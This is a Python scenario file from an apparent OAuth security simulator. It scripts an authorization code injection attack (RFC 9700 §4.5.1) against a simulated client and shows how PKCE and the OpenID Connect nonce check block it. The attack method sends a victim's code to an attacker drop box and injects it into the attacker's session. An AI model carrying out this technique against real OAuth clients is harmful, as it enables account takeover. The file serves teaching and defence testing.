"""code-injection: RFC 9700 §4.5.1. A stolen authorization code is injected into the
attacker's own session at the confidential client, which redeems it with its own secret.
The client secret does not help; PKCE does (RFC 9700 §4.5.3.1), and so does the OpenID
Connect nonce (§4.5.3.2): both logins here are OpenID Connect logins (`/login?openid=1`).

  1. Alice logs in at the client (the confidential web client). Her authorization response
     leaks before the client gets it (RFC 9700 §3, attacker A3): here a malicious browser
     extension reads the address her browser is about to open, sends it to the attacker's
     drop box and drops the navigation, so the code is still unused. (A simplification: any
     leak of the authorization response before redemption serves.)
  2. The attacker starts a regular login at the same client in their own browser, as bob,
     and stops before the callback.
  3. In that authorization response, the attacker replaces bob's code with alice's and
     lets the browser deliver it: the state is the attacker's own, so the client accepts it.
  4. The client redeems the code with its client secret and the PKCE verifier of the
     attacker's login. With PKCE the code is bound to alice's code_challenge: the verifier
     does not match, invalid_grant. Without PKCE (this client sends no challenge) the
     server issues alice's tokens, with an ID token.
  5. The ID token carries the nonce of alice's login; the attacker's session at the client
     holds the nonce of the attacker's own login. They differ: the client refuses the login
     and uses none of the tokens (RFC 9700 §4.5.3.2). Without that check too, alice's
     tokens log the attacker's session in.
"""

from __future__ import annotations

from sim import defences
from sim.parties import ATTACKER, AUTHORIZATION_SERVER, CLIENT, USER_AGENT
from sim.scenarios.attack_common import (
    ALICES_PHOTO,
    answer_param,
    client_login_stopped_before_callback,
    page_title,
    with_params,
)
from sim.scenarios.base import (
    AttackScenario,
    Attempt,
    Guard,
    ScenarioError,
    StepNote,
    log_in_and_consent,
    step,
)

#: Both logins are OpenID Connect logins: scope openid and a nonce kept in the session.
LOGIN = "/login?openid=1"


class CodeInjection(AttackScenario):
    name = "code-injection"
    description = (
        "A stolen code injected into the attacker's own session at the client (PKCE, nonce)"
    )
    rfc = "RFC 9700 §4.5"
    guards = (
        Guard(
            defences.PKCE,
            step(CLIENT, AUTHORIZATION_SERVER, "POST", "/token"),
            "the client sends the verifier of the attacker's login, but the code was issued "
            "for alice's code_challenge: invalid_grant",
            "no code_challenge binds the code to the login that asked for it, so the client "
            "secret alone lets the code through",
            "RFC 9700 §4.5.3.1, RFC 7636 §4.6",
        ),
        Guard(
            defences.NONCE,
            step(ATTACKER, CLIENT, "GET", "/callback"),
            "the ID token that came with alice's code carries the nonce of alice's login, not "
            "the one this session sent: the client refuses the login and uses none of the "
            "tokens",
            "the client does not compare the ID token's nonce with the one its session sent, "
            "so alice's tokens log the attacker's session in",
            "RFC 9700 §4.5.3.2, OIDC Core §3.1.3.7",
        ),
    )

    notes = (
        StepNote(
            step(USER_AGENT, ATTACKER, "GET", "/steal"),
            "The leak: a malicious browser extension reads the address alice's browser is "
            "about to open (the authorization response, her code in it), sends it to the "
            "attacker and drops the navigation, so the code is still unused.",
            "RFC 9700 §4.5.1",
        ),
        StepNote(
            step(ATTACKER, AUTHORIZATION_SERVER, "POST", "/authorize"),
            "The authorization response of the attacker's own login (as bob) comes back to "
            "the attacker's browser, which holds it instead of following it: this is the "
            "response the attacker will tamper with.",
            "RFC 9700 §4.5.1",
        ),
        StepNote(
            step(ATTACKER, CLIENT, "GET", "/callback"),
            "The injection: in the authorization response of their own login, the attacker "
            "puts alice's code in place of bob's. The state is the attacker's own, so the "
            "client accepts it and redeems the code with its client secret. What happens next "
            "is up to the client's checks: PKCE at the token endpoint, then the nonce in the "
            "ID token that comes back.",
            "RFC 9700 §4.5.1, §4.5.3",
        ),
    )

    def attack(self, stage, flow, off, attacker) -> Attempt:
        # 1. Alice's login; her authorization response leaks before the client sees it.
        victim = stage.user_agent(flow)
        callback = stage.client_url + "/callback"
        start = victim.get(stage.client_url + LOGIN)
        last = log_in_and_consent(victim, start, stop_at=callback)
        response = victim.location(last) or ""
        if not answer_param(response, "code"):
            raise ScenarioError(f"no code for alice ({last.status_code})")
        victim.get(attacker.drop_box(code=answer_param(response, "code")))
        stolen = attacker.last("leak", "code")
        # 2-3. The attacker's own login, with alice's code swapped into its response.
        own = client_login_stopped_before_callback(
            stage, attacker.browser, "bob", "builder", start_path=LOGIN
        )
        page = attacker.browser.open(with_params(own, code=stolen))
        sees_alice = page.ok and ALICES_PHOTO in page.text
        return Attempt(
            {
                "code_stolen": bool(stolen),
                "attacker_sees_account_of": "alice" if sees_alice else None,
                "attacker_page": page_title(page.text),
            },
            proof=page if sees_alice else None,
            proves="the attacker's own session at the client shows alice's photos",
        )


SCENARIOS = [CodeInjection()]
